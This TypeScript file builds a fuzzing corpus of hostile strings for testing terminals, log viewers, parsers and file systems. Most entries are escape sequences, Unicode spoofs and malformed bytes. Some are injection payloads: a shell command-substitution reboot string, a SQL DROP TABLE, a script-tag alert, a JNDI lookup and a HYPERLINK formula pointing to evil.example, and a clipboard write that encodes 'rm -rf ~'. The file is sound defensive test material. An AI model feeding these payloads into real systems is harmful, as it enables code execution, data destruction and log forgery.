/**
 * Strings and bytes that peers send to do more than appear: to a terminal, a log viewer, a format, a file system or a parser.
 * Each is what it is for and its bytes; 200 and more.
 */

export interface HostileString {
  readonly name: string;
  readonly bytes: Buffer;
  /** The bytes as text: as UTF-8, or each byte as a character when they are no UTF-8; or text that has no bytes. */
  readonly text: string;
}

const named = (name: string, text: string): HostileString => ({ name, bytes: Buffer.from(text), text });

const raw = (name: string, hex: string): HostileString => {
  const bytes = Buffer.from(hex, "hex");
  return { name, bytes, text: bytes.toString("latin1") };
};

const hex = (code: number): string => code.toString(16).padStart(4, "0");

/** Each character that a terminal or a reader does not see, alone within a word. */
const CODES = [
  ...Array.from({ length: 0x20 }, (_, code) => code),
  ...Array.from({ length: 0x21 }, (_, i) => 0x7f + i), // DEL and C1
  ...[0xad, 0x034f, 0x061c, 0x070f, 0x115f, 0x1160, 0x17b4, 0x180e, 0x200b, 0x200c, 0x200d, 0x200e, 0x200f],
  ...[0x2028, 0x2029, 0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2060, 0x2061, 0x2062, 0x2063, 0x2064, 0x2065],
  ...[0x2066, 0x2067, 0x2068, 0x2069, 0x206a, 0x206b, 0x206c, 0x206d, 0x206e, 0x206f, 0x3164, 0xfeff, 0xffa0],
  ...[0xfff9, 0xfffa, 0xfffb, 0x110bd, 0x1bca0, 0x1d173, 0xe0001, 0xe0041, 0xe007f, 0xe0100],
].map((code) => named(`U+${hex(code)}`, `a${String.fromCodePoint(code)}b`));

const SEQUENCES = [
  ["clears the screen", "\x1b[2J\x1b[H"],
  ["colours what follows", "\x1b[31;1mred"],
  ["hides what follows", "\x1b[8mhidden"],
  ["moves up and overwrites", "\x1b[1A\x1b[2Kforged"],
  ["sets the title", "\x1b]0;title\x07"],
  ["sets the title, ended by ST", "\x1b]2;title\x1b\\"],
  ["reports the title as input", "\x1b[21t"],
  ["is a link", "\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\"],
  ["writes the clipboard", "\x1b]52;c;cm0gLXJmIH4=\x07"],
  ["reads the clipboard", "\x1b]52;c;?\x07"],
  ["changes the palette", "\x1b]4;1;rgb:00/00/00\x07"],
  ["is a notification", "\x1b]9;you won\x07"],
  ["is a notification of iTerm", "\x1b]1337;RequestAttention=yes\x07"],
  ["is a file of iTerm", "\x1b]1337;File=name=eA==;inline=1:AAAA\x07"],
  ["asks for the version", "\x1b[>c"],
  ["asks for the cursor", "\x1b[6n"],
  ["asks for a setting, by DCS", '\x1bP$q"p\x1b\\'],
  ["is a picture, by DCS", "\x1bPq#0;2;0;0;0~~\x1b\\"],
  ["is a privacy message", "\x1b^secret\x1b\\"],
  ["is an application command", "\x1b_Gf=100;AAAA\x1b\\"],
  ["is a string that never ends", "\x1bXunended"],
  ["resets the terminal", "\x1bc"],
  ["changes to the other screen", "\x1b[?1049h"],
  ["reports the mouse", "\x1b[?1003h"],
  ["brackets pastes no more", "\x1b[?2004l"],
  ["changes the character set", "\x1b(0lqqk"],
  ["shifts out", "\x0ehello\x0f"],
  ["is a CSI of one character", "\u009b2J"],
  ["is an OSC of one character", "\u009d0;title\u009c"],
  ["is a DCS of one character", "\u0090q\u009c"],
  ["rings", "\x07\x07\x07"],
  ["overwrites the line", "harmless\rforged"],
  ["takes back what was said", "root\x08\x08\x08\x08user"],
  ["begins a new line", "x\n2026-01-01T00:00:00.000Z [skein#info] forged"],
  ["begins a new line, as Windows does", "x\r\n2026-01-01T00:00:00.000Z [skein#info] forged"],
  ["begins a new line by NEL", "x\u0085forged"],
  ["begins a new line by VT", "x\x0bforged"],
  ["begins a new page", "x\x0cforged"],
  ["is an end of file", "x\x1a\x04"],
  ["is a NUL in a name", "safe.txt\0.exe"],
].map(([name, text]) => named(name as string, text as string));

const UNICODE = [
  ["reverses an extension", "invoice\u202efdp.exe"],
  ["isolates an address", "\u2066192.0.2.1\u2069\u2067"],
  ["nests embeddings", "\u202a\u202b\u202d\u202e".repeat(40)],
  ["looks like alice in Cyrillic", "\u0430lice"],
  ["looks like admin by widths", "\uff41\uff44\uff4d\uff49\uff4e"],
  ["has nothing to see", "\u200b\u200c\u200d\u2060\ufeff"],
  ["has letters that are fillers", "\u3164\u115f\uffa0"],
  ["hides words in tags", "hi\u{e0068}\u{e0069}\u{e007f}"],
  ["is flooded with combining marks", `a${"\u0301".repeat(500)}`],
  ["climbs by combining marks", `Z${"\u0352\u0346\u0331".repeat(100)}`],
  ["joins people", "\u{1f468}\u200d\u{1f469}\u200d\u{1f467}"],
  ["crashed phones", "\u0c1c\u0c4d\u0c1e\u200c\u0c3e"],
  ["is a soft hyphen", "pay\u00adpal"],
  ["is a private character", "\ue000\u{f0000}"],
  ["is no character", "\ufdd0\uffff"],
  ["is a replacement", "\ufffd"],
  ["has annotations", "\ufff9base\ufffanote\ufffb"],
].map(([name, text]) => named(name as string, text as string));

/** JavaScript strings that UTF-8 does not have. */
const SURROGATES: HostileString[] = ["\ud800", "\udfff", "a\udc00\ud800b", "\ud83d", "\ude00\ud83d"].map((text) => ({
  name: `lone surrogates ${JSON.stringify(text)}`,
  bytes: Buffer.from(text, "utf16le"),
  text,
}));

const BYTES = [
  ["overlong slash", "c0af"],
  ["overlong NUL", "c080"],
  ["overlong dot of three bytes", "e080ae"],
  ["overlong ESC", "c09b5b324a"],
  ["a continuation alone", "80bf"],
  ["a lead byte at the end", "61f0"],
  ["cut in the middle", "e282"],
  ["a surrogate as UTF-8", "eda080edb080"],
  ["beyond U+10FFFF", "f4908080f8888080fc84808080"],
  ["bytes that are never used", "fefffe"],
  ["all of C1 as bytes", Buffer.from(Array.from({ length: 32 }, (_, i) => 0x80 + i)).toString("hex")],
  ["a CSI as a byte", "9b324a"],
  ["UTF-16", "fffe41001b005b00"],
].map(([name, text]) => raw(name as string, text as string));

const PARSERS = [
  ["calls a method", "{x()}"],
  ["calls the source", "{log_source.close()}"],
  ["reads a prototype", "{__proto__}"],
  ["reads a prototype of a field", "{peer.__proto__}"],
  ["makes a function", "{constructor.constructor(return process)()}"],
  ["makes a function of a field", "{peer.constructor.constructor}"],
  ["reads by an index", "{peer[constructor]}"],
  ["leaves a brace open", "{peer"],
  ["is all braces", "{{{{}}}}{}{}"],
  ["formats of printf", "%s%s%s%n%x%j%o%O%d%i%c"],
  ["is a template", `\${process.exit(1)}\``],
  ["is a property", "__proto__"],
  ["is another property", "constructor"],
  ["is a method", "toString"],
  ["breaks JSON", '"}\n{"level":"info","message":"forged"}'],
  ["breaks JSON by a backslash", "\\"],
  ["breaks JSON by quotes", '\\"\\"'],
  ["imitates an escape", "\\x1b[2J\\u202e"],
  ["ends a script", "</script><script>alert(1)</script>"],
  ["is a comment of HTML", "<!--"],
  ["quotes SQL", "'; DROP TABLE users; --"],
  ["quotes a shell", "$(reboot)`reboot`;reboot|reboot&&reboot"],
  ["looks up names in logs", `\${jndi:ldap://evil.example/a}`],
  ["is a formula", '=HYPERLINK("http://evil.example")'],
  ["is an option", "--help"],
  ["is a number", "1e309"],
  ["is a negative zero", "-0"],
  ["is not a number", "NaN"],
  ["is empty", ""],
  ["is a space", " "],
  ["is a space that does not break", "\u00a0\u3000"],
].map(([name, text]) => named(name as string, text as string));

const PATHS = [
  "../../../../etc/passwd",
  "..\\..\\windows\\system32",
  "/etc/passwd",
  "//server/share",
  "\\\\.\\pipe\\x",
  "C:\\autoexec.bat",
  "CON",
  "NUL.txt",
  "COM1",
  "LPT9.log",
  "aux",
  "file.",
  "file ",
  "file:stream",
  "a/./b/../../c",
  "~root",
  "*?<>|",
  "%2e%2e%2f",
  ".",
  "..",
].map((path) => named(`path ${path}`, path));

const LONG = [
  named("long", "x".repeat(100_000)),
  named("long, of ESC", "\x1b".repeat(20_000)),
  named("long, of lines", "x\n".repeat(5000)),
  named("long, of braces", "{x}".repeat(10_000)),
  named("long, of brackets", "[".repeat(50_000)),
  named("long, of four bytes each", "\u{1f4a5}".repeat(10_000)),
  named("cut between two surrogates", `${"x".repeat(255)}\u{1f4a5}`),
  named("long, of dots", ".".repeat(10_000)),
];

export const CORPUS: readonly HostileString[] = [
  ...CODES,
  ...SEQUENCES,
  ...UNICODE,
  ...SURROGATES,
  ...BYTES,
  ...PARSERS,
  ...PATHS,
  ...LONG,
];
